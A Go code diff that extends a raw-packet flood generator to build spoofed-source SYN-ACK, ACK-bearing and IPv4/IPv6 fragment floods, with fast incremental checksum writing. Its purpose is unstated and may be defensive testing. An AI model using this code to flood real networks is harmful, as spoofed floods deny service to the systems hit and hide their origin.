@@ -6,7 +6,7 @@ import (
 	"net/netip"
 )
 
-// SYNOptions are the TCP options of a flood's SYNs.
+// SYNOptions are the TCP options of a flood's SYNs and SYN-ACKs.
 type SYNOptions struct {
 	// MSS in bytes (RFC 9293 §3.7.1); 0 leaves the option out.
 	MSS uint16
@@ -48,13 +48,16 @@ func (o SYNOptions) encode() []byte {
 	return b
 }
 
-// synTemplate makes Ethernet frames with one SYN each, that differ in source address, source port
-// and ISN. Only these are written for each frame; the checksums follow from the sums over the rest.
-type synTemplate struct {
-	// frame has zeros where a SYN differs, and in its checksums.
+// floodTemplate makes Ethernet frames with one packet each, that differ in source address, source port, sequence number and, if they have the
+// ACK flag, acknowledgement number. Only these are written for each frame; the checksums follow from the sums over the rest.
+type floodTemplate struct {
+	// frame has zeros where a packet differs, and in its checksums.
 	frame []byte
-	// prefix holds the source addresses.
+	// prefix holds the source addresses; port is that of all, or 0.
 	prefix netip.Prefix
+	port   uint16
+	// ack: there is an acknowledgement number.
+	ack bool
 	// Offsets in frame of the source address and of the TCP header.
 	srcAt, tcpAt int
 	// ipSum and tcpSum are the unfolded sums of what the checksums cover in frame, the TCP
@@ -75,6 +78,11 @@ const (
 	flagFIN          = 0x01
 	flagSYN          = 0x02
 	flagRST          = 0x04
+
+	protoFragment = 44
+	fragmentLen   = 8
+	// fragmentOffset is where the later fragments of a flood begin, in units of 8 bytes.
+	fragmentOffset = 185
 )
 
 // Offsets in the headers.
@@ -83,16 +91,21 @@ const (
 	ipv4SrcAt = 12
 	ipv6SrcAt = 8
 	tcpSeqAt  = 4
+	tcpAckAt  = 8
 	tcpSumAt  = 16
 )
 
-// newSYNTemplate prepares SYNs to target that cross a link from its host to its gateway.
-func newSYNTemplate(l *Link, target netip.AddrPort, opts SYNOptions) *synTemplate {
-	options := opts.encode()
+// newFloodTemplate prepares the packets of one kind, any but FloodMixed.
+func newFloodTemplate(l *Link, cfg *FloodConfig, kind FloodKind) *floodTemplate {
+	flags, target := kind.flags(), cfg.Target
+	var options []byte
+	if flags&flagSYN != 0 {
+		options = cfg.Options.encode()
+	}
 	segment := tcpLen + len(options)
 	dst := target.Addr().AsSlice()
 
-	t := &synTemplate{}
+	t := &floodTemplate{ack: flags&flagACK != 0, port: cfg.Source.Port()}
 	b := append([]byte(nil), l.Gateway.HardwareAddr...)
 	b = append(b, l.Host.HardwareAddr...)
 	if target.Addr().Is4() {
@@ -100,23 +113,39 @@ func newSYNTemplate(l *Link, target netip.AddrPort, opts SYNOptions) *synTemplat
 		b = binary.BigEndian.AppendUint16(b, ethIPv4)
 		b = append(b, 4<<4|ipv4Len/4, 0)
 		b = binary.BigEndian.AppendUint16(b, uint16(ipv4Len+segment))
-		b = append(b, 0, 0, 1<<6, 0) // identification 0, don't fragment
+		if kind == FloodFragments {
+			b = append(b, 0, 0, fragmentOffset>>8, fragmentOffset&0xff)
+		} else {
+			b = append(b, 0, 0, 1<<6, 0) // identification 0, don't fragment
+		}
 		b = append(b, hops, protoTCP, 0, 0)
 	} else {
 		t.prefix, t.srcAt, t.tcpAt = SpoofedPrefix6, ethLen+ipv6SrcAt, ethLen+ipv6Len
 		b = binary.BigEndian.AppendUint16(b, ethIPv6)
 		b = append(b, 6<<4, 0, 0, 0)
-		b = binary.BigEndian.AppendUint16(b, uint16(segment))
-		b = append(b, protoTCP, hops)
+		if kind == FloodFragments {
+			t.tcpAt += fragmentLen
+			b = binary.BigEndian.AppendUint16(b, uint16(segment+fragmentLen))
+			b = append(b, protoFragment, hops)
+		} else {
+			b = binary.BigEndian.AppendUint16(b, uint16(segment))
+			b = append(b, protoTCP, hops)
+		}
+	}
+	if a := cfg.Source.Addr(); a.IsValid() {
+		t.prefix = netip.PrefixFrom(a, a.BitLen())
 	}
 	b = append(b, make([]byte, len(dst))...)
 	b = append(b, dst...)
 	t.ipSum = sum16(b[ethLen:])
+	if kind == FloodFragments && target.Addr().Is6() {
+		b = append(b, protoTCP, 0, fragmentOffset<<3>>8, fragmentOffset<<3&0xff, 0, 0, 0, 0)
+	}
 
 	b = binary.BigEndian.AppendUint16(b, 0)
 	b = binary.BigEndian.AppendUint16(b, target.Port())
 	b = append(b, make([]byte, 8)...) // sequence and acknowledgement number
-	b = append(b, byte(segment/4)<<4, flagSYN)
+	b = append(b, byte(segment/4)<<4, flags)
 	b = binary.BigEndian.AppendUint16(b, window)
 	b = append(b, make([]byte, 4)...) // checksum and urgent pointer
 	b = append(b, options...)
@@ -125,8 +154,8 @@ func newSYNTemplate(l *Link, target netip.AddrPort, opts SYNOptions) *synTemplat
 	return t
 }
 
-// write makes another SYN out of frame, which starts as a copy of t.frame.
-func (t *synTemplate) write(frame []byte, rng *rand.Rand) {
+// write makes another packet out of frame, which starts as a copy of t.frame.
+func (t *floodTemplate) write(frame []byte, rng *rand.Rand) {
 	src := frame[t.srcAt : t.srcAt+t.prefix.Addr().BitLen()/8]
 	t.writeSource(src, rng)
 	srcSum := sum16(src)
@@ -136,16 +165,28 @@ func (t *synTemplate) write(frame []byte, rng *rand.Rand) {
 	r := rng.Uint64()
 	// Ports below 1024 are rarely a client's, and 64512 values are enough.
 	port := uint16(1024 + (r>>32)%(1<<16-1024))
-	isn := uint32(r)
+	if t.port != 0 {
+		port = t.port
+	}
+	seq := uint32(r)
 	tcp := frame[t.tcpAt:]
 	binary.BigEndian.PutUint16(tcp, port)
-	binary.BigEndian.PutUint32(tcp[tcpSeqAt:], isn)
-	sum := t.tcpSum + srcSum + uint32(port) + isn>>16 + isn&0xffff
+	binary.BigEndian.PutUint32(tcp[tcpSeqAt:], seq)
+	sum := t.tcpSum + srcSum + uint32(port) + seq>>16 + seq&0xffff
+	if t.ack {
+		ack := rng.Uint32()
+		binary.BigEndian.PutUint32(tcp[tcpAckAt:], ack)
+		sum += ack>>16 + ack&0xffff
+	}
 	binary.BigEndian.PutUint16(tcp[tcpSumAt:], ^fold(sum))
 }
 
 // writeSource writes a random address of the prefix.
-func (t *synTemplate) writeSource(src []byte, rng *rand.Rand) {
+func (t *floodTemplate) writeSource(src []byte, rng *rand.Rand) {
+	if t.prefix.IsSingleIP() {
+		copy(src, t.prefix.Addr().AsSlice())
+		return
+	}
 	if len(src) == 4 {
 		base := t.prefix.Addr().As4()
 		host := rng.Uint32() >> t.prefix.Bits()
